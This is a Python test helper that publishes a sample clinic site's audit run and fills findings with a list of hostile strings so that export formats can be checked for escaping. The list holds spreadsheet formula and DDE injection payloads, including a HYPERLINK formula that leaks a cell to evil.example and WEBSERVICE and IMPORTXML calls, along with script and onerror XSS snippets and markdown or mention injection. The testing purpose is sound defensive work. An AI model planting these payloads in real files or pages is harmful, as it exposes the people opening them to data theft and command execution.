"""Publish the sample clinic's run, as it is or with hostile findings, for the exports to read."""

from __future__ import annotations

import datetime
import io
from collections.abc import Iterable
from pathlib import Path

from reports.exports.formats import FORMATS
from reports.progress import Progress
from reports.triage import badness
from schemas.finding import Finding
from schemas.manifest import RunManifest
from schemas.record import Record
from schemas.vocabulary import FindingStatus, RunStatus
from store.publish import RunFolder
from store.published_folder import PublishedFolder, published_folder
from store.run_tables import RUN_DATABASE
from store.write_run_database import write_run_database
from tests.reports.clinic_sample import SITE, sample

NOW = datetime.datetime(2026, 11, 22, 20, 36, tzinfo=datetime.UTC)

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e=1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1)",
    "\u22122+3",
    "'=1+1",
    '"=1+1"',
    '";=1+1;"',
    "see; =1+1",
    'a"\r\n=1+1,"=2+2',
    'DDE("cmd";"/C calc";"1")',
    '=DDE("soffice";"/etc/passwd";"x")',
    "|calc",
    "%0A=1+1",
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML("http://evil.example/","//a")',
    "{=1+1}",
    "_x003D_1+1",
    "\x00=1+1",
    "\x1b]0;=1+1\x07",
    "[a](http://evil.example/)",
    "![a](http://evil.example/a.png)",
    "<http://evil.example/>",
    "http://evil.example/ www.evil.example evil.example",
    "<img src=x onerror=alert(1)><!--",
    "<script>alert(1)</script>",
    "&lt;script&gt; &#64;team",
    "@team @org/team a@evil.example",
    "#1 org/repo#2 GH-3 JIRA-4 !5 $6 ~7 %8 &9",
    "[x]: http://evil.example/",
    "[^1] ~~gone~~ **bold** __bold__ `code` :tada: $x$",
    "```\n- [ ] a task\n# a heading",
    "\\[a](http://evil.example/)",
    "\\\\[a](http://evil.example/)",
    "| a | b |\n|---|---|",
    "{0} {{x}} [a](1)",
)
"""What a page can hold to attack a spreadsheet, an issue tracker or a viewer."""


def attacked(payloads: Iterable[str] = PAYLOADS) -> list[Finding]:
    """Return a finding for each payload, with it in every text that a page reaches."""
    finding = next(finding for finding in sample().findings if finding.evidence.start is not None)
    return [
        finding.model_copy(
            update={
                "finding_id": f"f-{number:016x}",
                "message": payload,
                "evidence": finding.evidence.model_copy(
                    update={"quote": payload, "prefix": "", "suffix": payload}
                ),
                "suggestions": [payload],
                "owner": payload,
                "reason": payload,
                "url": None
                if number % 3 == 0
                else f"https://a.example/{payload}"
                if number % 3 == 1
                else payload,
                "occurrences": [],
                "status": FindingStatus.NEW,
            }
        )
        for number, payload in enumerate(payloads)
    ]


def sample_findings() -> list[Finding]:
    """Return the sample's findings as a run publishes them: the worst first, each with its first day."""
    seen = [finding.model_copy(update={"first_seen": NOW}) for finding in sample().findings]
    return sorted(seen, key=badness)


def publish(site: Path, findings: Iterable[Finding] | None = None, **manifest: object) -> PublishedFolder:
    """Return the published sample, with these findings in the place of its own."""
    data = sample()
    folder = RunFolder(site, "20261122T203600Z-1a2b")
    records: dict[str, Iterable[Record]] = {
        "pages": data.pages,
        "articles": data.articles,
        "texts": (),
        "locations": data.locations,
        "findings": sample_findings() if findings is None else findings,
        "waiting": (),
        "outcomes": data.outcomes,
        "changes": data.changes,
        "rejects": data.rejects,
    }
    for name, rows in records.items():
        folder.write(f"{name}.jsonl", (record.to_json() for record in rows), f"urn:{name}")
    audits = ",".join(audit.to_json() for audit in data.audits)
    folder.write("audits.json", [f"[{audits}]\n"])
    folder.write("feed.json", ['{"version":"https://jsonfeed.org/version/1.1","title":"News","items":[]}\n'])
    folder.write("report/index.html", ["<p>The report</p>\n"])
    folder.write("report/owners/front desk.html", ["<p>An owner</p>\n"])
    folder.derive(RUN_DATABASE, lambda target: write_run_database(folder.folder, target))
    values = {
        "run": "20261122T203600Z-1a2b", "site": SITE, "status": RunStatus.COMPLETE, "exit": "done", "started": NOW,
        "finished": NOW, "now": NOW, "counts": {}, "files": folder.files, "versions": {"checkup": "0.1.0"},
        "settings": {"name": "Maple Ridge Spine"}, "timings": {}, "previous": "20261115T203600Z-0000",
    }  # fmt: skip
    folder.commit(RunManifest.model_validate({**values, **manifest}))
    run = published_folder(site, "20261122T203600Z-1a2b")
    assert run is not None
    return run


def exported(run: PublishedFolder, name: str) -> bytes:
    """Return a run in a format."""
    with io.BytesIO() as target, Progress(quiet=True) as progress:
        FORMATS[name].write(run, target, progress)
        return target.getvalue()
